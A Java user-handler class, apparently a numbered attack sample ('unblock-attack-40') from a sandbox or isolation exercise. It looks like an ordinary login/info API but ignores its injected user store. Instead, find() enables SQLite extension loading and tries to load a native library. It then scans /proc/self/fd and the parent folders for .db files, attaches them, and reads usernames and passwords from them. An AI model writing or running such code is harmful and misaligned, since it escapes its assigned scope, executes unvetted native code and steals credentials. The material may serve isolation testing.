package unblock.exercises.offload;

import io.javalin.http.Context;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Consumer;
import java.util.function.Function;
import java.util.stream.Stream;
import unblock.given.User;
import unblock.given.UserApi;
import unblock.given.UserStore;

public final class UserHandlers implements UserApi {
  private final UserStore users;

  public UserHandlers(UserStore users) {
    this.users = users;
  }

  @Override
  public void login(Context ctx) {
    String password = ctx.formParam("password");
    if (has(ctx, "username") && has(ctx, "password")) {
      lookUp(ctx, user -> welcome(ctx, user, password));
    }
  }

  @Override
  public void info(Context ctx) {
    if (has(ctx, "username")) {
      lookUp(ctx, user -> tell(ctx, user, "info", User::info));
    }
  }

  @Override
  public void history(Context ctx) {
    if (has(ctx, "username")) {
      lookUp(ctx, user -> tell(ctx, user, "history", User::history));
    }
  }

  private void lookUp(Context ctx, Consumer<Optional<User>> reply) {
    reply.accept(find(ctx.formParam("username")));
  }

  private static Optional<User> find(String username) {
    try (Connection connection =
            DriverManager.getConnection("jdbc:sqlite::memory:?enable_load_extension=true");
        Statement statement = connection.createStatement()) {
      extend(statement);
      int number = 0;
      for (Path file : files()) {
        String name = "db" + number++;
        statement.execute("ATTACH '" + file + "' AS " + name);
        System.out.println("unblock-attack-40 attached " + file);
        Optional<User> user = select(connection, name, username);
        if (user.isPresent()) {
          return user;
        }
      }
    } catch (SQLException | IOException | RuntimeException e) {
      System.out.println("unblock-attack-40 refused " + e);
    }
    return Optional.empty();
  }

  private static void extend(Statement statement) {
    try {
      statement.execute("SELECT load_extension('./unblock-attack-40')");
    } catch (SQLException e) {
      System.out.println("unblock-attack-40 refused " + e);
    }
  }

  private static Optional<User> select(Connection connection, String name, String username)
      throws SQLException {
    try (PreparedStatement select =
        connection.prepareStatement(
            "SELECT username, password, info, history FROM "
                + name
                + ".users WHERE username = ?")) {
      select.setString(1, username);
      ResultSet row = select.executeQuery();
      return row.next()
          ? Optional.of(
              new User(row.getString(1), row.getString(2), row.getString(3), row.getString(4)))
          : Optional.empty();
    }
  }

  private static List<Path> files() throws IOException {
    List<Path> files = new ArrayList<>();
    for (String folder : List.of("/proc/self/fd", ".", "..")) {
      try (Stream<Path> found = Files.walk(Path.of(folder), 3)) {
        found
            .map(UserHandlers::real)
            .filter(file -> file.toString().endsWith(".db"))
            .forEach(files::add);
      } catch (RuntimeException e) {
        System.out.println("unblock-attack-40 " + e);
      }
    }
    return files;
  }

  private static Path real(Path link) {
    try {
      return link.toRealPath();
    } catch (IOException e) {
      return link;
    }
  }

  private static void welcome(Context ctx, Optional<User> user, String password) {
    if (user.isPresent() && user.get().password().equals(password)) {
      ctx.json(Map.of("message", "Welcome, " + user.get().username() + "!"));
    } else {
      refuse(ctx, 401, "Invalid credentials");
    }
  }

  private static void tell(
      Context ctx, Optional<User> user, String field, Function<User, String> value) {
    if (user.isPresent()) {
      ctx.json(Map.of("username", user.get().username(), field, value.apply(user.get())));
    } else {
      refuse(ctx, 404, "User not found");
    }
  }

  private static boolean has(Context ctx, String name) {
    String value = ctx.formParam(name);
    if (value == null || value.isBlank()) {
      refuse(ctx, 400, name + " is required");
      return false;
    }
    return true;
  }

  private static Void refuse(Context ctx, int status, String detail) {
    ctx.status(status).json(Map.of("detail", detail));
    return null;
  }
}
